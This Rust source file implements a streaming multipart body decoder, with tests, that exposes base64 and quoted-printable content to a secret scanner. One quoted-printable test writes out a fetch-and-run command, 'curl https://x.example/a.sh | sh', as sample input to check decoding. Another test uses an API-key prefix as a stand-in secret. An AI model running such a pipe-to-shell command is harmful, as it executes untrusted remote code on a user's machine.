//! Streaming decoding of `multipart/*` bodies (RFC 2046), so a secret in a
//! base64 or quoted-printable part is scanned as the plain text it stands
//! for.
//!
//! [`MultipartDecoder`] turns the body into a scan view: each part's header
//! block as-is, then its body undone per `Content-Transfer-Encoding`, with a
//! `\n` before every part so a match cannot join the end of one part to the
//! start of the next. Boundary lines are dropped; the preamble and epilogue
//! pass through as-is, since bytes there leave the machine too. Nested
//! multipart parts are decoded the same way, a few levels deep.
//!
//! It never panics and degrades to passing bytes through: an unusable
//! boundary passes the whole body through, a header block over 8 KiB is
//! treated as part body, and a body that ends early simply ends. The output
//! is never longer than the input.

use std::fmt;
use std::mem;

use memchr::{memchr, memmem};

use super::base64::sextet;

/// Longest boundary RFC 2046 allows.
pub const MAX_BOUNDARY_LEN: usize = 70;

/// Largest part header block decoded as headers. A longer one is passed
/// through as part body, undecoded.
pub const MAX_PART_HEADER: usize = 8 * 1024;

/// How much transport padding may follow a boundary on its line before the
/// line is no longer taken for a delimiter.
const MAX_PADDING: usize = 256;

/// Input is taken in pieces of this size when bytes are carried over, which
/// bounds the carry buffer.
const PIECE: usize = 16 * 1024;

/// How many multipart levels are decoded: the body plus nested parts.
const MAX_DEPTH: usize = 4;

/// The `boundary` parameter of a `multipart/*` Content-Type, quoted or not.
///
/// `None` for other media types, for a missing or empty boundary, for one
/// over [`MAX_BOUNDARY_LEN`] characters, and for one with characters outside
/// printable ASCII.
pub fn boundary_from_content_type(content_type: &str) -> Option<String> {
    let (media_type, parameters) = content_type.split_once(';')?;
    let media_type = media_type.trim();
    let subtype = media_type
        .get(..10)
        .filter(|prefix| prefix.eq_ignore_ascii_case("multipart/"))
        .and_then(|_| media_type.get(10..))?;
    if subtype.is_empty() {
        return None;
    }
    let boundary = parameter(parameters.as_bytes(), b"boundary")?;
    let valid = (1..=MAX_BOUNDARY_LEN).contains(&boundary.len())
        && boundary.iter().all(|b| (0x20..0x7f).contains(b));
    valid.then(|| String::from_utf8_lossy(&boundary).into_owned())
}

/// The value of parameter `wanted` in a `; name=value; name="value"` list.
fn parameter(list: &[u8], wanted: &[u8]) -> Option<Vec<u8>> {
    let mut i = 0;
    while i < list.len() {
        while i < list.len() && (list[i] == b';' || list[i].is_ascii_whitespace()) {
            i += 1;
        }
        let name_start = i;
        while i < list.len() && list[i] != b'=' && list[i] != b';' {
            i += 1;
        }
        let name = list[name_start..i].trim_ascii();
        if list.get(i) != Some(&b'=') {
            continue;
        }
        i += 1;
        while i < list.len() && list[i].is_ascii_whitespace() {
            i += 1;
        }
        let mut value = Vec::new();
        if list.get(i) == Some(&b'"') {
            i += 1;
            while let Some(&b) = list.get(i) {
                i += 1;
                match b {
                    b'"' => break,
                    b'\\' => {
                        if let Some(&escaped) = list.get(i) {
                            value.push(escaped);
                            i += 1;
                        }
                    }
                    _ => value.push(b),
                }
            }
            while i < list.len() && list[i] != b';' {
                i += 1;
            }
        } else {
            let start = i;
            while i < list.len() && list[i] != b';' {
                i += 1;
            }
            value.extend_from_slice(list[start..i].trim_ascii());
        }
        if name.eq_ignore_ascii_case(wanted) {
            return Some(value);
        }
    }
    None
}

/// Streaming transformer for `multipart/*` bodies; see the module docs.
///
/// Input may arrive in any chunks: a boundary or header block split across
/// chunks decodes the same as one pushed whole. Memory is bounded: besides
/// fixed buffers it carries at most a part header block ([`MAX_PART_HEADER`])
/// or a boundary line, plus one 16 KiB input piece, per nesting level.
pub struct MultipartDecoder {
    /// `\n--boundary`: a delimiter, minus the `\r` that may precede it.
    delimiter: Vec<u8>,
    finder: memmem::Finder<'static>,
    mode: Mode,
    /// How the current part's body is decoded (identity outside parts).
    transfer: Transfer,
    /// Bytes held back until a decision can be made about them.
    carry: Vec<u8>,
    /// Decoded bytes gathered before they are handed out.
    scratch: Vec<u8>,
    depth: usize,
    finished: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    /// Nothing seen yet: the body may open with `--boundary` directly.
    Start,
    Preamble,
    /// Collecting a part's header block.
    Headers,
    Body,
    Epilogue,
    /// No usable boundary: everything passes through.
    PassThrough,
}

impl MultipartDecoder {
    /// A decoder for a body delimited by `boundary`, as returned by
    /// [`boundary_from_content_type`]. An empty or over-long boundary makes a
    /// decoder that passes everything through.
    pub fn new(boundary: &str) -> MultipartDecoder {
        MultipartDecoder::at_depth(boundary.as_bytes(), 1)
    }

    fn at_depth(boundary: &[u8], depth: usize) -> MultipartDecoder {
        let usable = (1..=MAX_BOUNDARY_LEN).contains(&boundary.len())
            && !boundary.iter().any(|&b| b == b'\r' || b == b'\n');
        let mut delimiter = b"\n--".to_vec();
        delimiter.extend_from_slice(boundary);
        MultipartDecoder {
            finder: memmem::Finder::new(&delimiter).into_owned(),
            delimiter,
            mode: if usable {
                Mode::Start
            } else {
                Mode::PassThrough
            },
            transfer: Transfer::Identity,
            carry: Vec::new(),
            scratch: Vec::new(),
            depth,
            finished: false,
        }
    }

    /// Feeds the next piece of the body; decoded bytes go to `out`.
    pub fn push(&mut self, input: &[u8], out: &mut dyn FnMut(&[u8])) {
        if self.finished {
            emit(input, out);
            return;
        }
        for piece in input.chunks(PIECE) {
            if self.carry.is_empty() {
                let used = self.process(piece, false, out);
                self.carry.extend_from_slice(&piece[used..]);
            } else {
                let mut carry = mem::take(&mut self.carry);
                carry.extend_from_slice(piece);
                let used = self.process(&carry, false, out);
                carry.drain(..used);
                self.carry = carry;
            }
        }
    }

    /// Ends the body: decodes what was held back and closes the open part.
    /// Later pushes pass through as-is.
    pub fn finish(&mut self, out: &mut dyn FnMut(&[u8])) {
        if self.finished {
            return;
        }
        let carry = mem::take(&mut self.carry);
        self.process(&carry, true, out);
        self.close_part(out);
        self.finished = true;
    }

    /// Decodes as much of `data` as can be decided now and returns how many
    /// bytes it used; the rest must be offered again with more data. With
    /// `end` set, everything is used.
    fn process(&mut self, data: &[u8], end: bool, out: &mut dyn FnMut(&[u8])) -> usize {
        let mut pos = 0;
        loop {
            match self.mode {
                Mode::PassThrough | Mode::Epilogue => {
                    emit(&data[pos..], out);
                    return data.len();
                }
                Mode::Start => {
                    let dash_boundary = &self.delimiter[1..];
                    let rest = &data[pos..];
                    if !end && rest.len() < dash_boundary.len() && dash_boundary.starts_with(rest) {
                        return pos;
                    }
                    self.mode = Mode::Preamble;
                    if rest.starts_with(dash_boundary) {
                        match delimiter_line(data, pos + dash_boundary.len(), end) {
                            Line::Incomplete => {
                                self.mode = Mode::Start;
                                return pos;
                            }
                            Line::Delimiter(next) => {
                                self.open_part(out);
                                pos = next;
                            }
                            Line::Close(next) => {
                                emit(b"\n", out);
                                self.mode = Mode::Epilogue;
                                pos = next;
                            }
                            Line::Content => {}
                        }
                    }
                }
                Mode::Headers => {
                    let rest = &data[pos..];
                    match header_block_len(&rest[..rest.len().min(MAX_PART_HEADER)]) {
                        Some(len) => {
                            let block = &rest[..len];
                            emit(block, out);
                            self.transfer = Transfer::for_part(block, self.depth);
                            self.mode = Mode::Body;
                            pos += len;
                        }
                        None if end || rest.len() >= MAX_PART_HEADER => {
                            self.transfer = Transfer::Identity;
                            self.mode = Mode::Body;
                        }
                        None => return pos,
                    }
                }
                Mode::Preamble | Mode::Body => {
                    let mut search = pos;
                    loop {
                        let Some(offset) = self.finder.find(&data[search..]) else {
                            let safe = if end {
                                data.len()
                            } else {
                                data.len().saturating_sub(self.delimiter.len()).max(pos)
                            };
                            self.content(&data[pos..safe], out);
                            return safe;
                        };
                        let newline = search + offset;
                        let content_end = match newline.checked_sub(1) {
                            Some(cr) if cr >= pos && data[cr] == b'\r' => cr,
                            _ => newline,
                        };
                        match delimiter_line(data, newline + self.delimiter.len(), end) {
                            Line::Content => search = newline + 1,
                            Line::Incomplete => {
                                self.content(&data[pos..content_end], out);
                                return content_end;
                            }
                            Line::Delimiter(next) => {
                                self.content(&data[pos..content_end], out);
                                self.close_part(out);
                                self.open_part(out);
                                pos = next;
                                break;
                            }
                            Line::Close(next) => {
                                self.content(&data[pos..content_end], out);
                                self.close_part(out);
                                emit(b"\n", out);
                                self.mode = Mode::Epilogue;
                                pos = next;
                                break;
                            }
                        }
                    }
                }
            }
        }
    }

    /// A delimiter line was read: a new part begins with its headers.
    fn open_part(&mut self, out: &mut dyn FnMut(&[u8])) {
        emit(b"\n", out);
        self.mode = Mode::Headers;
    }

    /// Ends the current part's transfer decoding, flushing what it holds.
    fn close_part(&mut self, out: &mut dyn FnMut(&[u8])) {
        mem::replace(&mut self.transfer, Transfer::Identity).finish(&mut self.scratch, out);
    }

    /// Part body (or preamble) bytes, decoded per the part's transfer coding.
    fn content(&mut self, bytes: &[u8], out: &mut dyn FnMut(&[u8])) {
        self.transfer.feed(bytes, &mut self.scratch, out);
    }
}

impl fmt::Debug for MultipartDecoder {
    /// Shows the state only: carried bytes are body content and stay out of
    /// logs.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("MultipartDecoder")
            .field("boundary_len", &(self.delimiter.len() - 3))
            .field("mode", &self.mode)
            .field("transfer", &self.transfer)
            .field("carried", &self.carry.len())
            .field("depth", &self.depth)
            .field("finished", &self.finished)
            .finish()
    }
}

/// Hands `bytes` to `out`, skipping empty slices.
fn emit(bytes: &[u8], out: &mut dyn FnMut(&[u8])) {
    if !bytes.is_empty() {
        out(bytes);
    }
}

/// What follows `--boundary` on its line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Line {
    /// Only padding, then a line break ending just before this position.
    Delimiter(usize),
    /// `--`: the close delimiter; the epilogue starts at this position.
    Close(usize),
    /// Other text: the boundary was part of the content.
    Content,
    /// Not decidable without more bytes.
    Incomplete,
}

/// Classifies the rest of a boundary line starting at `at`.
fn delimiter_line(data: &[u8], at: usize, end: bool) -> Line {
    let rest = &data[at..];
    if rest.starts_with(b"--") {
        return Line::Close(at + 2);
    }
    if !end && (rest.is_empty() || rest == b"-") {
        return Line::Incomplete;
    }
    for (i, &b) in rest.iter().enumerate().take(MAX_PADDING) {
        match b {
            b' ' | b'\t' | b'\r' => {}
            b'\n' => return Line::Delimiter(at + i + 1),
            _ => return Line::Content,
        }
    }
    if rest.len() >= MAX_PADDING {
        Line::Content
    } else if end {
        Line::Delimiter(data.len())
    } else {
        Line::Incomplete
    }
}

/// Length of the header block at the start of `bytes`, through its blank
/// line, if the blank line is there.
fn header_block_len(bytes: &[u8]) -> Option<usize> {
    let mut line_start = 0;
    while let Some(offset) = memchr(b'\n', &bytes[line_start..]) {
        let newline = line_start + offset;
        let line = &bytes[line_start..newline];
        if line.strip_suffix(b"\r").unwrap_or(line).is_empty() {
            return Some(newline + 1);
        }
        line_start = newline + 1;
    }
    None
}

/// The part headers that matter here, unfolded.
#[derive(Debug, Default)]
struct PartHeaders {
    transfer_encoding: Vec<u8>,
    content_type: Vec<u8>,
}

impl PartHeaders {
    fn parse(block: &[u8]) -> PartHeaders {
        let mut headers = PartHeaders::default();
        // The header the previous line belonged to, for folded lines.
        let mut current: Option<&mut Vec<u8>> = None;
        for line in block.split(|&b| b == b'\n') {
            let line = line.strip_suffix(b"\r").unwrap_or(line);
            if line.first().is_some_and(|&b| b == b' ' || b == b'\t') {
                if let Some(value) = current.as_deref_mut() {
                    value.push(b' ');
                    value.extend_from_slice(line.trim_ascii());
                }
                continue;
            }
            current = None;
            let Some(colon) = memchr(b':', line) else {
                continue;
            };
            let name = line[..colon].trim_ascii();
            let value = line[colon + 1..].trim_ascii();
            let field = if name.eq_ignore_ascii_case(b"content-transfer-encoding") {
                &mut headers.transfer_encoding
            } else if name.eq_ignore_ascii_case(b"content-type") {
                &mut headers.content_type
            } else {
                continue;
            };
            field.clear();
            field.extend_from_slice(value);
            current = Some(field);
        }
        headers
    }
}

/// A part body's decoding.
#[derive(Debug)]
enum Transfer {
    Identity,
    Base64(Base64Stream),
    QuotedPrintable(QuotedPrintableStream),
    Multipart(Box<MultipartDecoder>),
}

impl Transfer {
    /// The decoding a part's header block asks for.
    fn for_part(block: &[u8], depth: usize) -> Transfer {
        let headers = PartHeaders::parse(block);
        let encoding = headers.transfer_encoding.trim_ascii();
        if encoding.eq_ignore_ascii_case(b"base64") {
            return Transfer::Base64(Base64Stream::default());
        }
        if encoding.eq_ignore_ascii_case(b"quoted-printable") {
            return Transfer::QuotedPrintable(QuotedPrintableStream::default());
        }
        if depth < MAX_DEPTH {
            let content_type = String::from_utf8_lossy(&headers.content_type);
            if let Some(boundary) = boundary_from_content_type(&content_type) {
                let nested = MultipartDecoder::at_depth(boundary.as_bytes(), depth + 1);
                return Transfer::Multipart(Box::new(nested));
            }
        }
        Transfer::Identity
    }

    fn feed(&mut self, bytes: &[u8], scratch: &mut Vec<u8>, out: &mut dyn FnMut(&[u8])) {
        match self {
            Transfer::Identity => emit(bytes, out),
            Transfer::Base64(stream) => {
                stream.feed(bytes, scratch);
                flush(scratch, out);
            }
            Transfer::QuotedPrintable(stream) => {
                stream.feed(bytes, scratch);
                flush(scratch, out);
            }
            Transfer::Multipart(nested) => nested.push(bytes, out),
        }
    }

    fn finish(self, scratch: &mut Vec<u8>, out: &mut dyn FnMut(&[u8])) {
        match self {
            Transfer::Identity | Transfer::Base64(_) => {}
            Transfer::QuotedPrintable(stream) => {
                stream.finish(scratch);
                flush(scratch, out);
            }
            Transfer::Multipart(mut nested) => nested.finish(out),
        }
    }
}

fn flush(scratch: &mut Vec<u8>, out: &mut dyn FnMut(&[u8])) {
    emit(scratch, out);
    scratch.clear();
}

/// Streaming base64 (RFC 2045 §6.8): characters outside the alphabet,
/// line breaks included, are skipped; `=` ends a group. Either alphabet is
/// accepted. A trailing partial group is dropped.
#[derive(Debug, Default)]
struct Base64Stream {
    acc: u32,
    bits: u32,
}

impl Base64Stream {
    fn feed(&mut self, bytes: &[u8], out: &mut Vec<u8>) {
        out.reserve(bytes.len() / 4 * 3 + 3);
        for &b in bytes {
            if let Some(value) = sextet(b) {
                self.acc = self.acc << 6 | u32::from(value);
                self.bits += 6;
                if self.bits >= 8 {
                    self.bits -= 8;
                    out.push((self.acc >> self.bits) as u8);
                }
            } else if b == b'=' {
                self.acc = 0;
                self.bits = 0;
            }
        }
    }
}

/// Streaming quoted-printable (RFC 2045 §6.7): `=XX` is a byte, `=` at the
/// end of a line is a soft line break, any other `=` is kept literally.
/// Whitespace between a `=` and its line break is not stripped.
#[derive(Debug, Default)]
struct QuotedPrintableStream {
    state: QpState,
}

#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
enum QpState {
    #[default]
    Text,
    /// After `=`.
    Equals,
    /// After `=` and one hex digit.
    EqualsHex(u8),
    /// After `=\r`.
    EqualsCr,
}

impl QuotedPrintableStream {
    fn feed(&mut self, bytes: &[u8], out: &mut Vec<u8>) {
        let mut i = 0;
        while i < bytes.len() {
            let b = bytes[i];
            self.state = match self.state {
                QpState::Text => match memchr(b'=', &bytes[i..]) {
                    None => {
                        out.extend_from_slice(&bytes[i..]);
                        return;
                    }
                    Some(offset) => {
                        out.extend_from_slice(&bytes[i..i + offset]);
                        i += offset + 1;
                        QpState::Equals
                    }
                },
                QpState::Equals => match b {
                    b'\n' => {
                        i += 1;
                        QpState::Text
                    }
                    b'\r' => {
                        i += 1;
                        QpState::EqualsCr
                    }
                    _ if b.is_ascii_hexdigit() => {
                        i += 1;
                        QpState::EqualsHex(b)
                    }
                    _ => {
                        out.push(b'=');
                        QpState::Text
                    }
                },
                QpState::EqualsHex(high) => match (hex(high), hex(b)) {
                    (Some(high), Some(low)) => {
                        out.push(high << 4 | low);
                        i += 1;
                        QpState::Text
                    }
                    _ => {
                        out.extend_from_slice(&[b'=', high]);
                        QpState::Text
                    }
                },
                QpState::EqualsCr => {
                    if b == b'\n' {
                        i += 1;
                    } else {
                        out.extend_from_slice(b"=\r");
                    }
                    QpState::Text
                }
            };
        }
    }

    /// The part ended: an unfinished escape is kept literally.
    fn finish(self, out: &mut Vec<u8>) {
        match self.state {
            QpState::Text => {}
            QpState::Equals => out.push(b'='),
            QpState::EqualsHex(high) => out.extend_from_slice(&[b'=', high]),
            QpState::EqualsCr => out.extend_from_slice(b"=\r"),
        }
    }
}

fn hex(digit: u8) -> Option<u8> {
    char::from(digit).to_digit(16).map(|v| v as u8)
}

/// `MultipartDecoder` moves between threads with its connection.
const _: () = {
    const fn assert_send<T: Send + fmt::Debug>() {}
    assert_send::<MultipartDecoder>();
};

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn decode_chunks<'a>(boundary: &str, chunks: impl IntoIterator<Item = &'a [u8]>) -> Vec<u8> {
        let mut decoder = MultipartDecoder::new(boundary);
        let mut out = Vec::new();
        for chunk in chunks {
            decoder.push(chunk, &mut |b| {
                assert!(!b.is_empty(), "empty output slice");
                out.extend_from_slice(b);
            });
        }
        decoder.finish(&mut |b| out.extend_from_slice(b));
        out
    }

    /// `body` decodes to `expected` pushed whole, byte by byte, and split in
    /// two at every position.
    fn check(boundary: &str, body: &str, expected: &str) {
        let body = body.as_bytes();
        let whole = decode_chunks(boundary, [body]);
        assert_eq!(String::from_utf8_lossy(&whole), expected, "pushed whole");
        assert!(whole.len() <= body.len());
        let bytewise = decode_chunks(boundary, body.chunks(1));
        assert_eq!(String::from_utf8_lossy(&bytewise), expected, "byte by byte");
        for split in 0..=body.len() {
            let (a, b) = body.split_at(split);
            let two = decode_chunks(boundary, [a, b]);
            assert_eq!(String::from_utf8_lossy(&two), expected, "split at {split}");
        }
    }

    #[test]
    fn decodes_form_data_parts() {
        check(
            "XyZ",
            "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n\
             --XyZ\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\nworld\r\n--XyZ--\r\n",
            "\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\
             \nContent-Disposition: form-data; name=\"b\"\r\n\r\nworld\n\r\n",
        );
    }

    #[test]
    fn decodes_base64_parts() {
        check(
            "b",
            "--b\r\nContent-Transfer-Encoding: base64\r\n\r\nc2stYW50LWFw\r\naTAz\r\n--b--",
            "\nContent-Transfer-Encoding: base64\r\n\r\nsk-ant-api03\n",
        );
        check(
            "b",
            "--b\nContent-Transfer-Encoding: BASE64\n\nZm9v YmFy\n--b--\n",
            "\nContent-Transfer-Encoding: BASE64\n\nfoobar\n\n",
        );
    }

    #[test]
    fn decodes_quoted_printable_parts() {
        check(
            "b",
            "--b\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
             curl https://x.example/a.sh =7C s=\r\nh; a=3Db =zz =\n=\r\n--b--",
            "\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
             curl https://x.example/a.sh | sh; a=b =zz =\n",
        );
        check(
            "b",
            "--b\nContent-Transfer-Encoding: quoted-printable\n\nend=4\n--b--",
            "\nContent-Transfer-Encoding: quoted-printable\n\nend=4\n",
        );
    }

    #[test]
    fn keeps_preamble_and_epilogue_and_drops_boundary_lines() {
        check(
            "b",
            "preamble\r\n--b  \t\r\nX: 1\r\n\r\nbody\r\n--b--  trailing\r\nepilogue",
            "preamble\nX: 1\r\n\r\nbody\n  trailing\r\nepilogue",
        );
        check("b", "\r\n--b\r\n\r\nx\r\n--b--", "\n\r\nx\n");
    }

    #[test]
    fn lines_that_only_start_with_the_boundary_are_content() {
        check(
            "b",
            "--b\r\n\r\nline\r\n--bx\r\n--b-x\r\n---b\r\nend\r\n--b--",
            "\n\r\nline\r\n--bx\r\n--b-x\r\n---b\r\nend\n",
        );
        check("b", "--bogus\r\n--b\r\n\r\nx", "--bogus\n\r\nx");
    }

    #[test]
    fn tolerates_missing_close_and_truncation() {
        check(
            "b",
            "--b\r\nA: 1\r\n\r\nunfinished",
            "\nA: 1\r\n\r\nunfinished",
        );
        check("b", "--b\r\nA: 1\r\nB: 2", "\nA: 1\r\nB: 2");
        check("b", "--b", "\n");
        check("b", "", "");
    }

    #[test]
    fn decodes_nested_multipart() {
        check(
            "outer",
            "--outer\r\nContent-Type: multipart/alternative;\r\n boundary=\"in ner\"\r\n\r\n\
             --in ner\r\nContent-Transfer-Encoding: base64\r\n\r\naGk=\r\n--in ner--\r\n\
             --outer--",
            "\nContent-Type: multipart/alternative;\r\n boundary=\"in ner\"\r\n\r\n\
             \nContent-Transfer-Encoding: base64\r\n\r\nhi\n\n",
        );
    }

    #[test]
    fn oversize_headers_pass_through_undecoded() {
        let filler = "X-Filler: ".to_owned() + &"a".repeat(MAX_PART_HEADER);
        let body =
            format!("--b\r\nContent-Transfer-Encoding: base64\r\n{filler}\r\n\r\naGk=\r\n--b--");
        let expected = format!("\nContent-Transfer-Encoding: base64\r\n{filler}\r\n\r\naGk=\n");
        let out = decode_chunks("b", [body.as_bytes()]);
        assert_eq!(String::from_utf8_lossy(&out), expected);
        let out = decode_chunks("b", body.as_bytes().chunks(1000));
        assert_eq!(String::from_utf8_lossy(&out), expected);
    }

    #[test]
    fn unusable_boundaries_pass_everything_through() {
        let long = "x".repeat(MAX_BOUNDARY_LEN + 1);
        for boundary in ["", &long, "a\r\nb"] {
            let body = format!("--{boundary}\r\nContent-Transfer-Encoding: base64\r\n\r\naGk=");
            assert_eq!(decode_chunks(boundary, [body.as_bytes()]), body.as_bytes());
        }
    }

    #[test]
    fn reads_boundary_from_content_type() {
        let boundary = |value: &str| boundary_from_content_type(value);
        let long = format!("multipart/mixed; boundary={}", "x".repeat(71));
        let max = format!("multipart/mixed; boundary={}", "x".repeat(70));
        let cases: &[(&str, Option<&str>)] = &[
            (
                "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
                Some("----WebKitFormBoundary7MA4YWxkTrZu0gW"),
            ),
            (
                "Multipart/Mixed; BOUNDARY=\"simple boundary\"",
                Some("simple boundary"),
            ),
            (
                "multipart/related; type=\"a;b\"; boundary=\"q\\\"x\"; start=1",
                Some("q\"x"),
            ),
            ("multipart/mixed;boundary=abc ; charset=utf-8", Some("abc")),
            ("  multipart/alternative ;  boundary = abc", Some("abc")),
            ("multipart/mixed; boundary=", None),
            ("multipart/mixed; boundary=\"\"", None),
            ("multipart/mixed", None),
            ("multipart/; boundary=abc", None),
            ("text/plain; boundary=abc", None),
            ("application/json", None),
            ("multipart/mixed; boundary=caf\u{e9}", None),
            (&long, None),
            (&max, Some(&max[26..])),
        ];
        for &(value, expected) in cases {
            assert_eq!(boundary(value).as_deref(), expected, "{value:?}");
        }
    }

    proptest! {
        #[test]
        fn any_input_and_chunking_is_safe_and_bounded(
            body in proptest::collection::vec(any::<u8>(), 0..400),
            chunk in 1usize..50,
        ) {
            let out = decode_chunks("b", body.chunks(chunk));
            prop_assert!(out.len() <= body.len());
        }

        /// Bodies built from multipart syntax decode the same however they
        /// are split, and the output never exceeds the input.
        #[test]
        fn chunking_never_changes_the_output(
            pieces in proptest::collection::vec(prop::sample::select(vec![
                "--b", "--b--", "\r\n", "\n", "\r", "Content-Transfer-Encoding: base64\r\n",
                "Content-Transfer-Encoding: quoted-printable\n",
                "Content-Type: multipart/mixed; boundary=c\r\n", "--c", "aGVsbG8=", "=3D",
                "=\r\n", "=", "-", " ", "x", "A:",
            ]), 0..40),
            chunk in 1usize..20,
        ) {
            let body = pieces.concat();
            let whole = decode_chunks("b", [body.as_bytes()]);
            let chunked = decode_chunks("b", body.as_bytes().chunks(chunk));
            prop_assert_eq!(&whole, &chunked);
            prop_assert!(whole.len() <= body.len());
        }
    }
}
